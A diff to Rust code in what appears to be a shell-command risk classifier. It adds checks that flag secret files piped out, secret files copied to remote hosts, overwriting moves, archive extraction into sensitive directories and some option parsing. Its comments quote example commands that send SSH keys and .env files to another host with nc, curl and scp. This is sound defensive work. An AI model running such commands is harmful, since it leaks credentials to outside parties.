@@ -3,12 +3,14 @@
 //! (`sed`, `awk`, `find -exec`, `fd -x`), operands with a meaning (`dd of=`, `uniq IN OUT`,
 //! `ln -sf /dev/null f`, `date MMDDhhmm`) and read-only subcommands of admin programs.
 
-use super::super::args::{has_long, has_short, literal_output, opt_value, sensitive_path};
+use super::super::args::{
+    has_long, has_short, literal_output, opt_value, sensitive_path, write_risk,
+};
 use super::super::shell::{Input, Sh};
 use super::super::tools;
 use super::scripts::{editor, sed};
 use super::table::{Handler as H, Program};
-use super::{Scan, apply, base, scan, write_path};
+use super::{Scan, apply, base, scan, write_path, write_path_to};
 use crate::Effect::{Admin, Destructive, Mutating, Read};
 
 /// Runs a row: flags first, then what the handler adds, then the row's effect.
@@ -54,6 +56,31 @@ pub(crate) fn run(
         sh.add(Read, format!("{cmd} only prints or dry-runs (`{flag}`)"));
         return out;
     }
+    // A secret file passed on (`cat ~/.ssh/id_rsa | nc host 9000`, `base64 .env | curl …`).
+    let passes_on = matches!(prog.handler, H::Cat | H::Decode)
+        || matches!(
+            name,
+            "head"
+                | "tail"
+                | "tac"
+                | "base64"
+                | "base32"
+                | "xxd"
+                | "od"
+                | "zcat"
+                | "strings"
+                | "sort"
+        );
+    if passes_on
+        && let Some(f) = s
+            .operands
+            .iter()
+            .find(|o| super::super::args::secret_path(o))
+    {
+        let _ = special(sh, prog, name, args, &s, stdin, cmd);
+        sh.add(Read, format!("{cmd} reads a secret file"));
+        return super::super::args::file_input(f);
+    }
     match special(sh, prog, name, args, &s, stdin, cmd) {
         Some(result) => result,
         None => {
@@ -75,6 +102,25 @@ fn special(
 ) -> Option<Input> {
     let ops = &s.operands;
     let out = || Input::Unknown(format!("the output of `{name}`"));
+    // `scp ~/.ssh/id_rsa host:` copies a secret to another machine.
+    if matches!(name, "scp" | "sftp" | "rsync")
+        && let Some(f) = ops.iter().find(|o| super::super::args::secret_path(o))
+        && ops.iter().any(|o| o != f && o.contains(':'))
+    {
+        sh.add(
+            Admin,
+            format!("{cmd} copies the secret file `{f}` to another machine"),
+        );
+    }
+    // `mv`/`cp` onto an existing file replace it: the destination is judged as a write.
+    if matches!(prog.handler, H::Mv | H::Copy)
+        && ops.len() >= 2
+        && !s.has(&["-t", "--target-directory"])
+        && let Some(dest) = ops.last().filter(|d| !d.ends_with('/'))
+        && let Some((e, why)) = write_risk(dest, false)
+    {
+        sh.add(e, format!("{cmd} replaces `{dest}`, {why}"));
+    }
     match prog.handler {
         // The printed text is passed on, so `echo 'rm -rf x' | sh` is seen.
         H::Echo => {
@@ -219,8 +265,9 @@ fn special(
             None
         }
         H::Tee => {
+            let append = s.has(&["-a", "--append"]);
             for f in ops.iter().filter(|o| o.as_str() != "/dev/null") {
-                write_path(sh, f, cmd);
+                write_path_to(sh, f, append, cmd);
             }
             sh.add(Read, format!("{cmd} copies its input"));
             Some(match stdin {
@@ -398,7 +445,7 @@ fn dd(sh: &mut Sh, args: &[String], cmd: &str) {
             sh.add(Read, format!("{cmd} reads data"))
         }
         Some(path) => {
-            if let Some((e, why)) = sensitive_path(path) {
+            if let Some((e, why)) = write_risk(path, false) {
                 sh.add(e, format!("{cmd} overwrites `{path}`, {why}"));
             }
             sh.written.push((path.to_string(), None));
@@ -461,10 +508,18 @@ fn tar(sh: &mut Sh, args: &[String], cmd: &str) {
     if lists && !creates {
         sh.add(Read, format!("{cmd} lists an archive"));
     } else {
-        if let Some(dir) = opt_value(args, &["-C"], &["--directory"])
-            && let Some((e, why)) = sensitive_path(dir)
-        {
-            sh.add(e, format!("{cmd} extracts into {why}"));
+        // Extracting overwrites files under the directory: judged as a write to it.
+        let extracts = short('x') || has_long(args, "--extract") || has_long(args, "--get");
+        if let Some(dir) = opt_value(args, &["-C"], &["--directory"]) {
+            // Creating reads from the directory: only its own path is judged, as before.
+            let risk = if extracts {
+                write_risk(&format!("{}/", dir.trim_end_matches('/')), false)
+            } else {
+                sensitive_path(dir)
+            };
+            if let Some((e, why)) = risk {
+                sh.add(e, format!("{cmd} extracts into {why}"));
+            }
         }
         sh.add(Mutating, format!("{cmd} creates or extracts an archive"));
     }
@@ -478,7 +533,8 @@ fn zip(sh: &mut Sh, args: &[String], cmd: &str) {
     }
     if args
         .iter()
-        .any(|a| a == "-m" || a == "--move" || a == "-d" || a == "--delete")
+        .any(|a| a == "--move" || a == "-d" || a == "--delete")
+        || has_short(args, 'm')
     {
         sh.add(Destructive, format!("{cmd} deletes files (`-m`/`-d`)"));
     }
@@ -514,7 +570,11 @@ fn ssh_options(sh: &mut Sh, args: &[String], cmd: &str) {
 }
 
 fn kill(sh: &mut Sh, args: &[String], cmd: &str) {
-    let lists = has_short(args, 'l') || has_short(args, 'L');
+    // Listing is the first option written alone: a signal name such as `-KILL` or `-ALRM`
+    // contains the letter but kills.
+    let lists = args
+        .first()
+        .is_some_and(|a| matches!(a.as_str(), "-l" | "-L" | "--list" | "--table"));
     let probes = args
         .first()
         .is_some_and(|a| a == "-0" || a == "-s0" || a == "-SIGNULL")
